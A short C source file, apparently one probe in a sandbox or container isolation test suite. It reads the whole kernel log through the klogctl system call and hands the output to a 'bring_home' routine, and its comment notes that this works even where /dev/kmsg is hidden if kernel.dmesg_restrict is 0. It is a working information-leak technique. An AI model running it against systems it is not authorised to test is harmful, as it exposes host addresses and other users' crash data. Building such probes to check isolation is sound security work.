/*
 * The kernel's log tells of disks, addresses and other people's crashes. /dev/kmsg can be left out of a box; the system call that reads the
 * same log cannot, and where kernel.dmesg_restrict is 0 it asks no right of anybody: syslog(2).
 */
#include "attack.h"
#include <sys/klog.h>

/* argv: where to put what was found. */
void log_by_syscall(char **argv)
{
	static char log[1 << 20];
	const int SYSLOG_ACTION_READ_ALL = 3;
	const int length = must(klogctl(SYSLOG_ACTION_READ_ALL, log, sizeof log), "read the kernel's log");
	bring_home(argv[0], log, length);
}
